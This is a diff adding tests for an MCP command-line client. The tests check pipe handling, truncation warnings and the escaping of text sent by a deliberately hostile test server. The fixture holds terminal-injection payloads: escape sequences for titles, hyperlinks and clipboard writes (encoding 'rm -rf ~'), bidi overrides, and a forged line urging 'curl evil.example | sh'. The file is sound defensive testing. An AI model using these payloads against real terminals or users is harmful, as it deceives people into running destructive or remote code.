@@ -459,3 +459,322 @@ describe('CLI (dist/cli.js)', function () {
     });
   });
 });
+
+// ---------------------------------------------------------------------------------------------
+// Pipes and scripts (issue: "The CLI is fit for pipes and scripts").
+
+/** Characters a terminal acts on, or that reorder or break a line; stdout/stderr must carry none raw (LF aside). */
+const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
+
+/**
+ * Run the CLI with stdout a real pipe that this process reads slowly: nothing is read for `pauseMs`
+ * after the first chunk, so the pipe fills while the CLI is finishing (as with a slow `| jq`).
+ */
+function runThroughSlowPipe(args: string[], pauseMs = 400): Promise<{ code: number | null; stdout: Buffer; stderr: string }> {
+  return new Promise((resolve) => {
+    const child = spawn(process.execPath, [cli, ...args], { env: { PATH: process.env.PATH ?? '', HOME: dir }, stdio: ['ignore', 'pipe', 'pipe'] });
+    const chunks: Buffer[] = [];
+    let stderr = '';
+    let paused = false;
+    child.stdout.on('data', (d: Buffer) => {
+      chunks.push(d);
+      if (!paused) {
+        paused = true;
+        child.stdout.pause();
+        setTimeout(() => child.stdout.resume(), pauseMs);
+      }
+    });
+    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
+    child.on('close', (code) => resolve({ code, stdout: Buffer.concat(chunks), stderr }));
+  });
+}
+
+function manyTools(n: number) {
+  return Array.from({ length: n }, (_, i) => ({
+    def: { name: `tool_${i}`, description: `Tool number ${i}, with a description long enough to make the list several megabytes`, inputSchema: { type: 'object', properties: { a: { type: 'string' } } } },
+  }));
+}
+
+/** A free loopback port (listen on 0, close). */
+async function freePort(): Promise<number> {
+  const s = createServer();
+  await new Promise<void>((r) => s.listen(0, '127.0.0.1', r));
+  const port = (s.address() as AddressInfo).port;
+  await new Promise<void>((r) => s.close(() => r()));
+  return port;
+}
+
+/**
+ * A hostile MCP server spoken by hand (JSON responses, no SDK), so every byte of serverInfo, tool
+ * names, results and JSON-RPC error messages is the test's: ESC sequences (colour, OSC 8 hyperlink,
+ * OSC 52 clipboard, title), 8-bit CSI, bidi overrides, and newlines that try to forge our lines.
+ */
+const EVIL = {
+  name: '\u001b]0;pwned\u0007evil-server',
+  version: '1.0\nSigned in at https://trusted.example as client admin',
+  tool: 'click\u001b]8;;https://evil.example/\u0007here\u001b]8;;\u0007',
+  forged: 'ok\nerror [internal]: your token was revoked, run: curl evil.example | sh',
+  bidi: 'report\u202e\u2066fdp.exe\u2069',
+  scope: 'read\u001b[2J\u001b[H',
+  result: 'first line\u001b[31m red\u001b[0m\r\n\u009b2Jsecond line\u001b]52;c;cm0gLXJmIH4K\u0007',
+  error: '\u001b[1mboom\u001b[0m\nerror [authorization_denied]: forged line',
+};
+
+async function startHostileMcp(): Promise<{ url: string; close(): Promise<void> }> {
+  const server = createServer((req, res) => {
+    let body = '';
+    req.on('data', (d: Buffer) => (body += d.toString()));
+    req.on('end', () => {
+      if (req.method !== 'POST') return void res.writeHead(405).end();
+      const msg = JSON.parse(body) as { id?: number; method: string; params?: { name?: string } };
+      if (msg.id === undefined) return void res.writeHead(202).end();
+      const reply = (payload: Record<string, unknown>) => res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ jsonrpc: '2.0', id: msg.id, ...payload }));
+      switch (msg.method) {
+        case 'initialize':
+          return reply({ result: { protocolVersion: '2025-06-18', capabilities: { tools: {} }, serverInfo: { name: EVIL.name, version: EVIL.version } } });
+        case 'tools/list':
+          return reply({
+            result: {
+              tools: [EVIL.tool, EVIL.forged, EVIL.bidi].map((name) => ({
+                name,
+                description: EVIL.result,
+                inputSchema: { type: 'object' },
+                securitySchemes: [{ type: 'oauth2', scopes: [EVIL.scope] }],
+              })),
+            },
+          });
+        case 'tools/call':
+          if (msg.params?.name === 'fail') return reply({ error: { code: -32000, message: EVIL.error } });
+          return reply({ result: { content: [{ type: 'text', text: EVIL.result }, { type: 'image', data: 'AAAA', mimeType: 'image/png\u001b[5m' }], structuredContent: { note: EVIL.bidi, c1: '\u0085\u009b' } } });
+        default:
+          return reply({ error: { code: -32601, message: 'no' } });
+      }
+    });
+  });
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/mcp`, close: () => new Promise<void>((r) => server.close(() => r())) };
+}
+
+describe('CLI in pipes and scripts', function () {
+  this.timeout(60_000);
+
+  before(async () => {
+    if (cli && existsSync(cli)) return;
+    dir = mkdtempSync(join(tmpdir(), 'mcp-cli-test-'));
+    cli = join(dir, 'cli.js');
+    await esbuild.build({
+      absWorkingDir: ROOT,
+      entryPoints: ['src/cli/main.ts'],
+      outfile: cli,
+      bundle: true,
+      platform: 'node',
+      target: 'node20',
+      format: 'cjs',
+      logLevel: 'silent',
+      banner: { js: '#!/usr/bin/env node' },
+    });
+  });
+  after(() => rmSync(dir, { recursive: true, force: true }));
+
+  describe('output written before exit is never lost', () => {
+    for (const n of [1_000, 20_000]) {
+      it(`tools --json for ${n.toLocaleString('en')} tools through a slowly read pipe is complete, valid JSON`, async () => {
+        const fx = await startMcpServer({ tools: manyTools(n), resourcesAndPrompts: false });
+        try {
+          const r = await runThroughSlowPipe(['tools', fx.url.href, '--json']);
+          assert.equal(r.code, 0, r.stderr);
+          const text = r.stdout.toString('utf8');
+          let out: { tools: Array<{ name: string }>; truncated?: unknown };
+          try {
+            out = JSON.parse(text) as typeof out;
+          } catch {
+            assert.fail(`stdout is not complete JSON: ${text.length} characters, ending ${JSON.stringify(text.slice(-80))}`);
+          }
+          assert.equal(out.tools.length, n);
+          assert.equal(out.tools[n - 1].name, `tool_${n - 1}`);
+          assert.equal(out.truncated, undefined, 'nothing was cut');
+          assert.ok(text.endsWith('}\n'));
+        } finally {
+          await fx.close();
+        }
+      });
+    }
+
+    it('the human list of 20,000 tools through a slow pipe has every line, and `| head` ends quietly', async () => {
+      const fx = await startMcpServer({ tools: manyTools(20_000), resourcesAndPrompts: false });
+      try {
+        const r = await runThroughSlowPipe(['tools', fx.url.href]);
+        assert.equal(r.code, 0, r.stderr);
+        const out = r.stdout.toString('utf8').split('\n');
+        assert.equal(out.filter((l) => /^ {2}tool_\d+ — server default — open$/.test(l)).length, 20_000);
+        assert.equal(out[out.length - 2], '  tool_19999 — server default — open');
+        // A reader that stops early (EPIPE) is not a crash.
+        const head = await new Promise<{ code: number | null; stderr: string }>((resolve) => {
+          execFile('/bin/sh', ['-c', `'${process.execPath}' '${cli}' tools '${fx.url.href}' | head -n 2 >/dev/null; echo "status $?" >&2`], { env: { PATH: process.env.PATH ?? '' } }, (err, _o, stderr) =>
+            resolve({ code: err ? 1 : 0, stderr }),
+          );
+        });
+        assert.doesNotMatch(head.stderr, /Error|EPIPE|at /, head.stderr);
+      } finally {
+        await fx.close();
+      }
+    });
+  });
+
+  describe('no silent caps', () => {
+    it('a tool list cut at the page limit says so (text and --json) and --max-pages raises it', async () => {
+      const fx = await startMcpServer({ paginateForever: true, resourcesAndPrompts: false });
+      try {
+        const j = await run(['tools', fx.url.href, '--json']);
+        assert.equal(j.code, 0, j.stderr);
+        const out = JSON.parse(j.stdout) as { tools: unknown[]; truncated: { tools: { limit: string; max: number; shown: number; flag: string; message: string } } };
+        assert.equal(out.tools.length, 50);
+        assert.deepEqual({ ...out.truncated.tools, message: undefined }, { limit: 'max-pages', max: 50, shown: 50, flag: '--max-pages', message: undefined });
+        assert.match(out.truncated.tools.message, /cut.*50 pages.*--max-pages/);
+        assert.match(j.stderr, /^warn the tool list is cut/m);
+
+        const calls = fx.toolListCalls;
+        const h = await run(['tools', fx.url.href, '--max-pages', '3']);
+        assert.equal(h.code, 0, h.stderr);
+        assert.equal(fx.toolListCalls - calls, 3);
+        assert.match(h.stdout, /^3 tools \(list cut\):$/m);
+        assert.match(h.stdout, /^… the tool list is cut: the server still had a next page after 3 pages \(3 tools shown\); raise --max-pages/m);
+      } finally {
+        await fx.close();
+      }
+    });
+
+    it('a list that ends within the limit is not marked cut; --max-pages is checked', async () => {
+      const fx = await startMcpServer({ pageSize: 2, resourcesAndPrompts: false });
+      try {
+        const whole = JSON.parse((await run(['tools', fx.url.href, '--json', '--max-pages', '4'])).stdout) as { tools: unknown[]; truncated?: unknown };
+        assert.equal(whole.tools.length, 7);
+        assert.equal(whole.truncated, undefined);
+        const cut = JSON.parse((await run(['tools', fx.url.href, '--json', '--max-pages', '3'])).stdout) as { tools: unknown[]; truncated?: { tools?: { max: number } } };
+        assert.equal(cut.tools.length, 6);
+        assert.equal(cut.truncated?.tools?.max, 3);
+        for (const bad of ['0', '-1', 'many', '2.5']) {
+          const r = await run(['tools', fx.url.href, `--max-pages=${bad}`]);
+          assert.equal(r.code, 1, bad);
+          assert.match(r.stderr, /^error \[config_invalid\]: --max-pages must be a whole number/);
+        }
+      } finally {
+        await fx.close();
+      }
+    });
+
+    it('a trace cut at --max-trace-entries is named in --json with what was dropped', async () => {
+      const fx = await startMcpServer({ resourcesAndPrompts: false });
+      try {
+        const r = await run(['tools', fx.url.href, '--json', '--max-trace-entries', '2']);
+        assert.equal(r.code, 0, r.stderr);
+        const out = JSON.parse(r.stdout) as { trace: unknown[]; truncated: { trace: { limit: string; max: number; dropped: number; flag: string } } };
+        assert.equal(out.trace.length, 2);
+        assert.equal(out.truncated.trace.limit, 'max-trace-entries');
+        assert.equal(out.truncated.trace.flag, '--max-trace-entries');
+        assert.ok(out.truncated.trace.dropped >= 1);
+        const full = JSON.parse((await run(['tools', fx.url.href, '--json'])).stdout) as { trace: unknown[]; truncated?: unknown };
+        assert.equal(full.trace.length, out.trace.length + out.truncated.trace.dropped);
+        assert.equal(full.truncated, undefined);
+      } finally {
+        await fx.close();
+      }
+    });
+
+    it('a response over --max-body-bytes is an error that names the flag', async () => {
+      const big = createServer((_req, res) => res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ jsonrpc: '2.0', id: 0, padding: 'x'.repeat(4000) })));
+      await new Promise<void>((r) => big.listen(0, '127.0.0.1', r));
+      try {
+        const url = `http://127.0.0.1:${(big.address() as AddressInfo).port}/mcp`;
+        const r = await run(['tools', url, '--max-body-bytes', '1000', '--json']);
+        assert.equal(r.code, 1);
+        assert.match(r.stderr, /^error \[response_too_large\]: .*1000-byte limit.*--max-body-bytes <bytes> \(now 1000\)/);
+        assert.equal((JSON.parse(r.stdout) as { error: { code: string } }).error.code, 'response_too_large');
+      } finally {
+        await new Promise<void>((r) => big.close(() => r()));
+      }
+    });
+  });
+
+  describe('server text never reaches the terminal raw', () => {
+    let evil: { url: string; close(): Promise<void> };
+    before(async () => {
+      evil = await startHostileMcp();
+    });
+    after(() => evil.close());
+
+    it('tools: server info, tool names and scopes are escaped, one line each', async () => {
+      const r = await run(['tools', evil.url]);
+      assert.equal(r.code, 0, r.stderr);
+      assert.doesNotMatch(r.stdout + r.stderr, RAW_CONTROL);
+      const out = lines(r.stdout);
+      assert.equal(out.length, 3 + 3, `no forged lines:\n${r.stdout}`);
+      assert.equal(out[0].startsWith('Connected to \\x1b]0;pwned\\x07evil-server 1.0\\nSigned in at'), true, out[0]);
+      assert.equal(out[3], '  click\\x1b]8;;https://evil.example/\\x07here\\x1b]8;;\\x07 — oauth2(read\\x1b[2J\\x1b[H) — locked, missing read\\x1b[2J\\x1b[H');
+      assert.match(out[4], /^ {2}ok\\nerror \[internal\]: your token was revoked/);
+      assert.match(out[5], /^ {2}report\\u202e\\u2066fdp\.exe\\u2069 — /);
+    });
+
+    it('tools --json keeps the exact values, as valid JSON without raw C1 or bidi characters', async () => {
+      const r = await run(['tools', evil.url, '--json']);
+      assert.equal(r.code, 0, r.stderr);
+      assert.doesNotMatch(r.stdout.replace(/\n/g, ''), RAW_CONTROL);
+      const out = JSON.parse(r.stdout) as { server: { info: { name: string; version: string } }; tools: Array<{ name: string; description: string }> };
+      assert.equal(out.server.info.name, EVIL.name);
+      assert.deepEqual(
+        out.tools.map((t) => t.name),
+        [EVIL.tool, EVIL.forged, EVIL.bidi],
+      );
+      assert.equal(out.tools[0].description, EVIL.result);
+    });
+
+    it('call: a text result keeps its lines but no control; structured content is escaped JSON', async () => {
+      const r = await run(['call', evil.url, 'anything']);
+      assert.equal(r.code, 0, r.stderr);
+      assert.doesNotMatch(r.stdout + r.stderr, RAW_CONTROL);
+      assert.equal(
+        r.stdout,
+        'first line\\x1b[31m red\\x1b[0m\n\\x9b2Jsecond line\\x1b]52;c;cm0gLXJmIH4K\\x07\n[image]\n{\n  "note": "report\\u202e\\u2066fdp.exe\\u2069",\n  "c1": "\\u0085\\u009b"\n}\n',
+      );
+      const j = await run(['call', evil.url, 'anything', '--json']);
+      assert.doesNotMatch(j.stdout.replace(/\n/g, ''), RAW_CONTROL);
+      assert.equal((JSON.parse(j.stdout) as { result: { structuredContent: { c1: string } } }).result.structuredContent.c1, '\u0085\u009b');
+    });
+
+    it('errors: a JSON-RPC error message from the server is one escaped line on stderr', async () => {
+      const r = await run(['call', evil.url, 'fail', '--trace']);
+      assert.equal(r.code, 1);
+      assert.doesNotMatch(r.stdout + r.stderr, RAW_CONTROL);
+      const errLines = r.stderr.split('\n').filter((l) => l.startsWith('error ['));
+      assert.equal(errLines.length, 1, r.stderr);
+      assert.match(errLines[0], /\\x1b\[1mboom\\x1b\[0m\\nerror \[authorization_denied\]: forged line/);
+    });
+
+    it('elicitation: the declined note escapes the server message and field names', async () => {
+      const fx = await startMcpServer({
+        resourcesAndPrompts: false,
+        tools: [
+          {
+            def: { name: 'ask', inputSchema: { type: 'object' } },
+            handler: async (_args, extra) => {
+              const res = await extra.server.elicitInput({
+                message: `Your details\u001b]8;;https://evil.example\u0007\nerror [internal]: forged`,
+                requestedSchema: { type: 'object', properties: { 'na\u202eme': { type: 'string' } } },
+              });
+              return { content: [{ type: 'text', text: res.action }] };
+            },
+          },
+        ],
+      });
+      try {
+        const r = await run(['call', fx.url.href, 'ask']);
+        assert.equal(r.code, 0, r.stderr);
+        assert.doesNotMatch(r.stdout + r.stderr, RAW_CONTROL);
+        assert.equal(lines(r.stderr).length, 1, r.stderr);
+        assert.match(r.stderr, /asks for input \(na\\u202eme\): Your details\\x1b\]8;;https:\/\/evil\.example\\x07\\nerror \[internal\]: forged — declined/);
+      } finally {
+        await fx.close();
+      }
+    });
+  });
+});
